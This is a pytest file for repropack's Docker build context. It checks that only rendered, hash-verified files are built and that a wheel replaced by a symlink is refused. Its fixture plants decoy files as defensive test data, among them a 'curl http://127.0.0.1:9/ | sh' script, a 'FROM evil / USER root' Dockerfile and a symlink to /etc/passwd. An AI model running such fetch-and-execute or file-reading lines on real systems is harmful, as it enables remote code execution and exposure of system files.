"""The build context holds only what repropack wrote, and the Dockerfile it builds names the base by id."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from repropack.environment.build_inputs import BuildInputs
from repropack.environment.pipindex import PipIndex
from repropack.errors import BadInput
from repropack.model import Environment, LockedDistribution, layout
from repropack.model.lock import render_lock
from repropack.sandbox.base import BuildRequest
from repropack.sandbox.docker.image import _build_context, rendered_dockerfile
from repropack.sandbox.docker.installer import installer

WHEEL = b"not really a wheel, but bytes with a sha256"
LOCAL = b"the project's own wheel"
ENV = Environment(
    python_version="3.11.7",
    implementation="CPython",
    platform="Linux",
    machine="x86_64",
    lock=(LockedDistribution("six", "1.16.0", ("dependency",), hashes=("c" * 64,)),),
    base_image="repropack/base:bookworm-py3.11",
)


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _package(root: Path) -> Path:
    """A package folder with repropack's files and some of the package's own that must never be built."""
    (root / layout.WHEELHOUSE).mkdir(parents=True)
    (root / layout.WHEELHOUSE / "six-1.16.0-py2.py3-none-any.whl").write_bytes(WHEEL)
    (root / layout.LOCAL_WHEELS).mkdir(parents=True)
    (root / layout.LOCAL_WHEELS / "claimslib-0.2.0-py3-none-any.whl").write_bytes(LOCAL)
    (root / layout.DOCKERFILE).write_text("FROM evil\nUSER root\n")
    (root / layout.LOCK).write_text("--index-url http://127.0.0.1:9/\n")
    (root / layout.RESERVED_DIR / "payload.sh").write_text("curl http://127.0.0.1:9/ | sh\n")
    return root


def _request(root: Path, **inputs) -> BuildRequest:
    values = {
        "environment": ENV,
        "lock_text": render_lock(ENV.lock, header="h"),
        "wheelhouse": {f"{layout.WHEELHOUSE}/six-1.16.0-py2.py3-none-any.whl": _sha(WHEEL)},
        "local_wheels": {f"{layout.LOCAL_WHEELS}/claimslib-0.2.0-py3-none-any.whl": _sha(LOCAL)},
        **inputs,
    }
    return BuildRequest(root, "0" * 64, ENV.base_image, BuildInputs(**values), index=PipIndex("https://idx/simple"))


def _files(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}


def test_the_context_holds_only_the_rendered_dockerfile_the_rendered_lock_the_ca_bundle_and_checked_wheels(tmp_path):
    root = _package(tmp_path / "pkg")
    request = _request(root)
    context = tmp_path / "context"
    context.mkdir()
    dockerfile = rendered_dockerfile(request, "sha256:" + "e" * 64)
    wheels = _build_context(request, dockerfile, context, installer())
    assert _files(context) == {
        "Dockerfile",
        layout.LOCK,
        layout.CA_BUNDLE,
        "repropack-build/uv",
        f"{layout.WHEELHOUSE}/six-1.16.0-py2.py3-none-any.whl",
        f"{layout.LOCAL_WHEELS}/claimslib-0.2.0-py3-none-any.whl",
    }
    assert wheels == context / "repropack-build" / "wheels" and wheels.is_dir()  # for what the host fetches
    assert (context / "repropack-build/uv").read_bytes() == installer().path.read_bytes()
    assert (context / "Dockerfile").read_text() == dockerfile
    assert (context / layout.LOCK).read_text() == request.inputs.lock_text  # not the package's
    assert dockerfile.count(f"FROM sha256:{'e' * 64}") == 2
    assert "USER root" not in dockerfile and "--require-hashes" in dockerfile
    assert "claimslib-0.2.0-py3-none-any.whl sha256:" + _sha(LOCAL) in dockerfile


def test_a_wheel_whose_bytes_changed_after_the_check_is_not_built(tmp_path):
    root = _package(tmp_path / "pkg")
    (root / layout.WHEELHOUSE / "six-1.16.0-py2.py3-none-any.whl").write_bytes(WHEEL + b"!")
    context = tmp_path / "context"
    context.mkdir()
    request = _request(root)
    with pytest.raises(BadInput, match=r"six-1.16.0-py2.py3-none-any.whl: sha256 .* differs from recorded"):
        _build_context(request, rendered_dockerfile(request, "sha256:" + "e" * 64), context, installer())


def test_a_wheel_replaced_by_a_symlink_is_never_followed(tmp_path):
    root = _package(tmp_path / "pkg")
    target = root / layout.WHEELHOUSE / "six-1.16.0-py2.py3-none-any.whl"
    target.unlink()
    os.symlink("/etc/passwd", target)
    context = tmp_path / "context"
    context.mkdir()
    request = _request(root)
    with pytest.raises(BadInput, match="cannot be read for the build"):
        _build_context(request, rendered_dockerfile(request, "sha256:" + "e" * 64), context, installer())


def test_the_reviewers_index_becomes_build_arguments():
    assert PipIndex("https://idx/simple", ("https://extra/simple",)).build_args() == {
        "REPROPACK_INDEX_URL": "https://idx/simple",
        "REPROPACK_EXTRA_INDEX_URL": "https://extra/simple",
    }


# --- one real build: uv installs the lock from the wheels the host fetched, with no network ---------------


@pytest.mark.slow  # one image build of its own (the study's lock under another header: another tag)
def test_a_build_installs_the_lock_with_uv_from_the_hosts_wheels_and_leaves_neither_in_the_image(
    docker_engine, tmp_path
):
    from dataclasses import replace

    from repropack.config import DEFAULT_BASE_IMAGE
    from repropack.crate.reader import open_package
    from repropack.environment.build_inputs import build_inputs
    from repropack.environment.pipindex import configured_index
    from repropack.environment.wheelcache import cached_files
    from repropack.export import export_project
    from repropack.sandbox.docker.image import build_image
    from tests.conftest import make_project

    export_project(make_project(tmp_path / "study"), tmp_path / "pkg", {})
    logs: list[str] = []
    with open_package(tmp_path / "pkg") as opened:
        inputs = build_inputs(opened)
        inputs = replace(
            inputs, lock_text=render_lock(inputs.environment.lock, header="test_image: a build of its own")
        )
        ca = Path(os.environ.get("PIP_CERT") or "/etc/ssl/certs/ca-certificates.crt")
        request = BuildRequest(
            opened.root, inputs.environment_hash, DEFAULT_BASE_IMAGE, inputs, ca_bundle=ca, index=configured_index()
        )
        env = build_image(docker_engine, replace(request, on_log=logs.append))
    pins = [d for d in inputs.environment.lock if not d.local]
    try:
        assert not env.reused
        (summary,) = [line for line in logs if line.startswith("wheels: ")]
        assert summary.startswith(f"wheels: {len(pins)} for the build, 0 from the cache, {len(pins)} downloaded (")
        assert "from the index in the build" not in summary  # all there: the build ran with no network, no index
        assert len(list(cached_files())) == len(pins)

        def run(script: str) -> str:
            out = docker_engine.containers.run(
                env.reference, ["python", "-c", script], remove=True, network_disabled=True
            )
            return out.decode().strip()

        listing = run("import os; print(sorted(os.listdir('/opt/repropack')))")
        assert listing == "['venv']"  # no uv, no wheels, no CA bundle, no lock
        installer = run(
            "from importlib.metadata import distribution as d; import nbclient, nbformat, ipykernel; "
            "print(d('nbclient').read_text('INSTALLER').strip())"
        )
        assert installer == "uv"
        compiled = run("import nbformat, pathlib; print(any(pathlib.Path(nbformat.__file__).parent.rglob('*.pyc')))")
        assert compiled == "True"  # bytecode compiled at build: the read-only image could not cache it later
    finally:
        docker_engine.images.remove(env.reference, force=True)
        # The build stage the classic builder leaves behind (the image before the second FROM), if still unnamed.
        steps = [line for line in logs if line.startswith(" ---> ") and "Running in" not in line]
        froms = [i for i, line in enumerate(logs) if line.startswith("Step ") and " : FROM " in line]
        stage = next((line.split()[-1] for line in reversed(logs[: froms[-1]]) if line in steps), None)
        if stage:
            try:
                if not docker_engine.images.get(stage).tags:
                    docker_engine.images.remove(stage)
            except Exception:
                pass  # shared with a build of the same lock, or already gone
